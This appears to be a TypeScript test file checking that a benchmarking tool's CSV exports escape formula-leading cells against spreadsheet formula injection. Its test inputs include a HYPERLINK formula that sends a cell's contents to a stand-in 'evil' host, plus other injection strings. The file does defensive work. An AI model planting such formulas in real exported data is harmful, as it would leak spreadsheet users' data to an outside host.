/**
 * Every CSV hedgebench writes is opened in spreadsheets: a string cell that
 * begins with `=`, `+`, `-`, `@`, TAB or CR (a label, a compared file's
 * name, an error message) is written with csv-stringify's formula escaping
 * (a leading `'`), and a number cell, negative ones too, stays a number.
 */
import { test } from 'node:test'
import assert from 'node:assert/strict'
import { mkdtemp, readFile, rm } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { renderCsvSummary } from '../src/report/csv.js'
import { compareRuns } from '../src/report/compare.js'
import { renderCompareCsv } from '../src/report/compare-csv.js'
import { renderSweepCsv } from '../src/report/sweep-csv.js'
import type { Figure, FrontierRow, SweepFrontier } from '../src/report/sweep-frontier.js'
import type { SweepResult } from '../src/results/sweep-result.js'
import { createRequestLog } from '../src/results/request-log.js'
import { parseCsv, parseCsvObjects } from './helpers/csv.js'
import { makeHedgedRun, makePhase, makeRunResult } from './helpers/result-fixture.js'

const FORMULAS = ['=HYPERLINK("http://evil/?"&A1)', '+1+1', '-2+3', '@SUM(A1)', '\t=1', '\r=1']

/** A cell as the spreadsheet would get it: the formula's text behind a `'`. */
const escaped = (text: string): string => `'${text}`

/** A number as a spreadsheet types it: digits, an optional sign, point and exponent, nothing before them. */
const NUMBER = /^-?\d+(\.\d+)?(e[+-]?\d+)?$/

test('the run summary: a label beginning with a formula character is escaped, every numeric column stays numeric', () => {
  for (const label of FORMULAS) {
    const rows = parseCsvObjects(renderCsvSummary(makeHedgedRun({ label })))
    for (const row of rows) {
      assert.equal(row.run_label, escaped(label))
      for (const column of ['requests', 'attempts', 'ok', 'errors', 'rps', 'p99_ms', 'max_ms', 'slow_count'])
        assert.match(row[column]!, NUMBER, `${column} of ${JSON.stringify(label)}`)
    }
  }
  const messages = makeRunResult({ phases: { plain: makePhase('plain', [1, 2, 3], { errorMessages: { '-ERR from target': 2 } }) } })
  const row = parseCsvObjects(renderCsvSummary(messages)).find((r) => r.scope === 'phase')!
  assert.equal(row.error_messages, '[2] -ERR from target', 'a cell that begins with a digit group is no formula')
})

test('compare -o csv: a compared file whose name begins with a formula character is escaped; a negative change stays a number', () => {
  const before = makeHedgedRun({}, 1)
  const after = makeHedgedRun({}, 2)
  for (const name of FORMULAS) {
    const c = compareRuns([
      { name: 'before.json', result: before },
      { name, result: after },
    ])
    const rows = parseCsvObjects(renderCompareCsv(c))
    const theirs = rows.filter((r) => r.run !== 'before.json')
    assert.ok(theirs.length > 0)
    for (const r of theirs) assert.equal(r.run, escaped(name))
    const negative = rows.filter((r) => r.change.startsWith('-'))
    assert.ok(negative.length > 0, 'some change is negative')
    for (const r of negative) assert.match(r.change, NUMBER, `a change of ${r.metric}`)
  }
})

test('the per-request log: an error text or replica beginning with a formula character is escaped', async (t) => {
  const dir = await mkdtemp(join(tmpdir(), 'hedgebench-formula-'))
  t.after(() => rm(dir, { recursive: true, force: true }))
  const path = join(dir, 'requests.csv')
  const log = await createRequestLog(path)
  for (const [seq, text] of FORMULAS.entries())
    log.write({
      phase: 'plain',
      seq,
      startMs: 1.5,
      latencyMs: 2,
      status: null,
      error: text,
      replica: `@${seq}`,
      attempts: 1,
      winner: 'original',
      hedgeFiredMs: null,
    })
  await log.close()
  const rows = parseCsvObjects(await readFile(path, 'utf8'))
  assert.deepEqual(
    rows.map((r) => r.error),
    FORMULAS.map(escaped),
  )
  assert.deepEqual(
    rows.map((r) => r.replica),
    FORMULAS.map((_, seq) => escaped(`@${seq}`)),
  )
  for (const r of rows) assert.match(r.start_ms!, NUMBER)
})

test('the sweep CSV: a setting whose label begins with a formula character is escaped, its figures stay numbers', () => {
  const figure = (value: number): Figure => ({ value, interval: [value - 1, value + 1] })
  const lane = {
    requests: 100,
    p50: figure(1),
    p99: figure(-2),
    'p99.9': figure(3),
    slow: figure(0),
    extraLoadPct: figure(5),
    errors: figure(0),
    serverWorkPct: null,
  }
  const row: FrontierRow = {
    ...lane,
    label: '=1+2',
    delayLabel: '=1+2',
    percentile: null,
    delayMs: 10,
    maxAttempts: 2,
    budgetPct: null,
    decision: 'helped' as FrontierRow['decision'],
    headline: '',
    onFrontier: true,
  }
  const frontier: SweepFrontier = {
    plain: lane,
    rows: [row],
    slowThresholdMs: 50,
    maxExtraPct: 10,
    recommendation: { label: null, indistinguishable: [], sentence: '' },
  }
  const sweep = { settings: [{}], partial: false } as unknown as SweepResult
  const [header, cells] = parseCsv(renderSweepCsv(sweep, frontier))
  const at = (column: string): string => cells![header!.indexOf(column)]!
  assert.equal(at('setting'), escaped('=1+2'))
  assert.equal(at('p99_ms'), '-2', 'a negative figure is a number, not escaped')
  assert.equal(at('p99_ms_low'), '-3')
})
